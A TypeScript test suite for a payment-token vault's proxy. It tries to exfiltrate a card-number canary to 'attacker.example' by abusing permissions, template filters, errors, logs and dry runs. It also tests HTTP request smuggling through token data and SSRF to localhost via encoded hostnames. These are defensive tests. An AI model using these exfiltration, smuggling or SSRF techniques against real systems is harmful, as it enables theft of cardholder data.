/**
 * How would you steal a card number through the proxy? Each way that came to mind, tried.
 */
import assert from 'node:assert/strict'
import { after, afterEach, before, beforeEach, describe, test } from 'node:test'
import { inspect } from 'node:util'
import type { Json, JsonObject } from '../../src/base/json.ts'
import type { Change } from '../../src/ports/change.ts'
import { canaryOf, findTrace, tracesOf } from '../kit/canary.ts'
import { proxyStage, type ProxyStage } from '../kit/proxy-stage.ts'
import { watched } from '../kit/still-world.ts'
import { stillVault, type Reply, type StillVault } from '../kit/still-vault.ts'

const CANARY = canaryOf(11)
const TRACES = tracesOf(CANARY)
const SECRET = `${CANARY.text} ${CANARY.digits}`
const MINE = 'https://attacker.example/collect'

let vault: StillVault
let owner: string
let id: string
beforeEach(async () => {
  vault = await stillVault()
  owner = await vault.keyFor({ permissions: ['token:create', 'token:use'] })
  id = await token(SECRET)
})
afterEach(() => vault.close())

async function token(data: Json, more: JsonObject = {}): Promise<string> {
  const body = { type: 'token', data, ...more }
  return (await vault.call('POST', '/tokens', { key: owner, body })).json()['id'] as string
}

function collect(key: string, body: Json, headers: Record<string, string> = {}): Promise<Reply> {
  return vault.call('POST', '/proxy', { key, body, headers: { 'BT-PROXY-URL': MINE, ...headers } })
}

function assertNowhere(what: string, ...things: unknown[]): void {
  const text = things.map((it) => (typeof it === 'string' ? it : inspect(it, { depth: 9 }))).join()
  assert.equal(findTrace(TRACES, Buffer.from(text)), null, what)
}

describe('nothing gets to a destination of the thief’s own', () => {
  const rule = { priority: 1, container: '/', transform: 'reveal' }
  const keys: [what: string, application: JsonObject][] = [
    [
      'that may read everything',
      { rules: [{ ...rule, permissions: ['token:read', 'token:search'] }] },
    ],
    ['that may make and change tokens', { permissions: ['token:create', 'token:update'] }],
    ['that may use reactors', { permissions: ['reactor:invoke'] }],
    [
      'that may use what lies elsewhere',
      { rules: [{ ...rule, container: '/pci/', permissions: ['token:use'] }] },
    ],
    [
      'that sees nothing of what it uses',
      { rules: [{ ...rule, transform: 'redact', permissions: ['token:use'] }] },
    ],
    [
      'that sees masks of what it uses',
      { rules: [{ ...rule, transform: 'mask', permissions: ['token:use'] }] },
    ],
    [
      'that may send to one place',
      { permissions: ['token:use'], destinations: ['api.example.com'] },
    ],
    ['of a public application', { type: 'public', permissions: ['token:create'] }],
    ['that sets things up', { type: 'management', permissions: ['proxy:create', 'proxy:read'] }],
  ]
  for (const [what, application] of keys) {
    test(`with a key ${what}`, async () => {
      const key = await vault.keyFor(application)
      const forms = [
        `{{ ${id} }}`,
        `{{ token: ${id} }}`,
        `{{ ${id} | slice: 0, 99 }}`,
        `{{${id}|json:'$'}}`,
      ]
      for (const form of forms) {
        const { text } = await collect(key, { it: form })
        assertNowhere(`${what}: ${form}`, vault.world.egress.sent, text)
        for (const it of vault.world.egress.sent) assertNowhere(what, it.body.toString())
      }
    })
  }

  test('by an expression that comes out of a token', async () => {
    const other = await token(`{{ ${id} }}`)
    await collect(owner, { it: `{{ ${other} }}`, two: `{{{{ ${other} }}}}`.slice(1) })
    for (const it of vault.world.egress.sent) assertNowhere('second order', it.body.toString())
    const reply = await collect(owner, `{{ ${other} }}`)
    assert.equal(reply.status, 200)
    assert.equal(vault.world.egress.sent.at(-1)!.body.toString(), `"{{ ${id} }}"`)
  })

  test('before its audit event is written, nor if it cannot be', async () => {
    let shut = false
    const look = (changes: readonly Change[]): void => {
      if (shut && changes.some((it) => it.kind === 'append-audit-events')) throw new Error('shut')
    }
    vault = await stillVault({
      change: (world) => ({ ...world, store: watched(world.store, look) }),
    })
    owner = await vault.keyFor({ permissions: ['token:create', 'token:use'] })
    id = await token(SECRET)
    shut = true
    for (const body of [`{{ ${id} }}`, 'no expression', { deep: [`{{ ${id} }}`] }]) {
      const reply = await collect(owner, body)
      assert.equal(reply.status, 503)
      assert.equal(reply.headers['bt-proxy-destination-status'], undefined)
      assert.ok('proxy_error' in reply.json())
      assertNowhere('unrecorded', reply.text)
    }
    assert.equal((await collect(owner, `{{ ${id} }}`, { 'BT-PROXY-DRY-RUN': 'true' })).status, 503)
    assert.deepEqual(vault.world.egress.sent, [])
  })
})

describe('nothing of the data is said', () => {
  test('in an error, whatever goes wrong with it', async () => {
    const expressions = [
      `{{ ${id} | to_number }}`,
      `{{ ${id} | to_boolean }}`,
      `{{ ${id} | json: '$[' }}`,
      `{{ ${id} | pad_left: 99999999, 'x' }}`,
      `{{ ${id} | split: '' | json: '$..*' }}`,
      `{{ ${id} `,
      `{{ ${SECRET} }}`,
      `{{ ${id} | ${SECRET} }}`,
    ]
    for (const it of expressions) {
      const reply = await collect(owner, { [SECRET]: it })
      if (it.includes(SECRET)) continue
      assert.equal(reply.status, 400, it)
      assertNowhere(it, (reply.json()['proxy_error'] as JsonObject)['detail'])
      assertNowhere(it, inspect(reply.headers))
    }
    assert.deepEqual(vault.world.egress.sent, [])
  })

  test('in the log or the audit log, be it that everything fails', async () => {
    for (const fault of [undefined, 'reset', 'timeout', 'tls', 'answer-invalid'] as const) {
      vault.world.egress.reply = () => (fault === undefined ? { status: 200 } : { fault })
      await collect(owner, `{{ ${id} }}`, { Authorization: SECRET, 'X-It': SECRET })
      const path = `/proxy/${encodeURIComponent(SECRET)}?q=${encodeURIComponent(SECRET)}`
      await vault.call('GET', path, { key: owner, headers: { 'BT-PROXY-URL': MINE } })
    }
    assert.equal(vault.world.egress.sent.length, 10)
    assertNowhere('log', vault.world.logged)
    const events = vault.world.committed.filter((it) => it.kind === 'append-audit-events')
    assert.ok(events.length >= 10)
    assertNowhere('audit log', events)
  })

  test('by a dry run: not the data, not its length, not what a filter makes of it', async () => {
    const long = await token('x'.repeat(5_000))
    const filters = [
      '',
      '| last4',
      '| slice: 0, 1',
      '| size',
      '| to_number',
      "| json: '$.a'",
      '| to_base64',
    ]
    for (const filter of filters) {
      const [one, other] = await Promise.all(
        [id, long].map(async (it) => {
          const headers = { 'BT-PROXY-DRY-RUN': 'true', 'BT-TRACE-ID': 'same' }
          const reply = await collect(owner, { a: `{{ ${it} ${filter} }}` }, headers)
          assert.equal(reply.status, 200, reply.text)
          assertNowhere(filter, reply.text)
          return reply.text.replaceAll(it, '<id>')
        }),
      )
      assert.equal(one, other, filter)
    }
    assert.deepEqual(vault.world.egress.sent, [])
  })
})

describe('at the destination', () => {
  let stage: ProxyStage
  before(async () => void (stage = await proxyStage()))
  after(() => stage.close())

  test('data that looks like HTTP stays in the body, and the body is as long as it says', async () => {
    const data = '"}\r\n\r\nPOST /stolen HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\n\r\n'
    const it = await stage.token(data)
    const forms: [type: string, body: string][] = [
      ['application/json', `{"a":"{{ ${it} }}"}`],
      ['text/plain', `a {{ ${it} }} b`],
      ['application/x-www-form-urlencoded', `a={{${it}}}&b=c`],
      ['application/xml', `<a>{{ ${it} }}</a>`],
    ]
    for (const [type, body] of forms) {
      const before = stage.destination.received.length
      const headerSection = [
        'POST /proxy/here HTTP/1.1',
        'Host: vault.example',
        `BT-API-KEY: ${stage.key}`,
        `BT-PROXY-URL: ${stage.destination.url}`,
        `Content-Type: ${type}`,
        `Content-Length: ${body.length}`,
      ]
      const text = await stage.talk(`${headerSection.join('\r\n')}\r\n\r\n${body}`)
      assert.match(text, /^HTTP\/1\.1 200 /, type)
      const lines = stage.destination.received.slice(before).map(({ line }) => line)
      assert.deepEqual(lines, ['POST /here HTTP/1.1'], type)
    }
    const [json, , form] = stage.destination.received.slice(-4)
    assert.deepEqual(JSON.parse(json!.body), { a: data })
    assert.deepEqual(
      [...new URLSearchParams(form!.body)],
      [
        ['a', data],
        ['b', 'c'],
      ],
    )
  })

  test('no request comes back to the vault itself, by whatever name', async () => {
    const headerSection = (url: string): string =>
      `GET /proxy/tokens HTTP/1.1\r\nHost: x\r\nBT-API-KEY: ${stage.key}\r\nBT-PROXY-URL: ${url}\r\n\r\n`
    for (const host of ['localhost', 'LOCALHOST.', '127.0.0.1', '[::1]', '0x7f.1', '2130706433']) {
      const text = await stage.talk(headerSection(`http://${host}:${stage.port()}`))
      assert.match(text, /^HTTP\/1\.1 400 [^]*destination_refused/, host)
    }
  })
})
